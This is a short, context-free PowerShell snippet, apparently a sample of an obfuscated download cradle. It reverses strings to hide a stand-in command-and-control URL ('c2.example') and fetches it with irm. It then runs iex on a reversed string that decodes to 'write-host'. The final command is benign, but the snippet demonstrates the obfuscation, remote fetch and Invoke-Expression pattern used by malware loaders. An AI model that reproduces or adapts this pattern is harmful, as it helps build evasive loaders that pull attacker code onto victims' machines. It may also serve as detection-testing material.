$p = 'egg;ham;http://c2.example/q' -split ';'
$r = ($p[-1][-1..-($p[-1].Length)]) -join ''
$s = -join $r[($r.Length - 1)..0]
irm $s
iex ('#tsoh-etirw'[-1..-10] -join '')
